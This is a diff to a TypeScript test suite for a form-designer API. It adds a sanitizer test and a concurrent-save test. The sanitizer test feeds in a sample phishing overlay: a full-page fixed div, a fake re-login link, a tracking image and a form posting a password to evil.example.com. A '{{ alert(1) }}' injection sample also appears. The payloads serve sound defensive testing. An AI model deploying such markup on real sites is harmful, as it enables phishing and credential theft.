@@ -52,7 +52,7 @@ describe.each(await backends())('forms on %s', (backend) => {
     (bad.list[3] as DesignerItem).precision = 11;
     let r = await h.call('POST', `${BASE}/save`, { token: admin, data: { name: 'bad', title: 'x', definition: bad } });
     expect(r.status).toBe(400);
-    expect(r.body.msg).toMatch(/表单定义不符合规范/);
+    expect(r.body.msg).toMatch(/^表单定义不符合规范：组件「.+」\(.+\)的精度不能大于10$/);
     const expr = sampleForm();
     (expr.list[0] as DesignerItem).label = '{{ alert(1) }}';
     r = await h.call('POST', `${BASE}/save`, { token: admin, data: { name: 'bad', title: 'x', definition: expr } });
@@ -66,6 +66,30 @@ describe.each(await backends())('forms on %s', (backend) => {
     expect(r.status).toBe(400);
     const missing = await h.call('GET', `${BASE}/bad`, { token: admin });
     expect(missing.status).toBe(404);
+  });
+
+  it('keeps only harmless inline CSS in html blocks: no page overlay, no silent foreign link', async () => {
+    const form = emptyForm();
+    const overlay = '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff;color:red">'
+      + '<a href="https://evil.example.com/login">请重新登录</a><a href="/dashboard" target="_blank">首页</a></div>'
+      + '<p style="margin-top:-400px;font-weight:bold;background-image:url(https://evil.example.com/t.png)">x</p>'
+      + '<form action="https://evil.example.com/p"><input name="password"></form>';
+    form.list = [{ ...createItem('html'), id: 'banner', html: overlay } as DesignerItem];
+    const r = await h.call('POST', `${BASE}/save`, { token: admin, data: { name: 'overlay', title: '覆盖', definition: form } });
+    expect(r.status).toBe(200);
+    const html = r.body.data.definition.list[0].html as string;
+    expect(html).toContain('<div style="width: 100%; color: red">');
+    expect(html).not.toMatch(/position|z-index|top:|left:|height|margin-top|url\(|<form|<input/);
+    expect(html).toContain('<a href="https://evil.example.com/login" target="_blank" rel="noopener noreferrer">请重新登录</a>');
+    expect(html).toContain('<a href="/dashboard" target="_blank" rel="noopener noreferrer">首页</a>');
+    expect(html).toContain('<p style="font-weight: bold">x</p>');
+  });
+
+  it('gives concurrent saves of one form consecutive revisions instead of conflicts', async () => {
+    const saves = await Promise.all(Array.from({ length: 20 }, (_, i) =>
+      h.call('POST', `${BASE}/save`, { token: admin, data: { name: 'busy', title: `并发 ${i}`, definition: sampleForm() } })));
+    expect(saves.map((r) => r.status)).toEqual(Array(20).fill(200));
+    expect(saves.map((r) => r.body.data.revision).sort((a, b) => a - b)).toEqual(Array.from({ length: 20 }, (_, i) => i + 1));
   });
 
   it('validates submissions with the JSON Schema of the revision and records it', async () => {
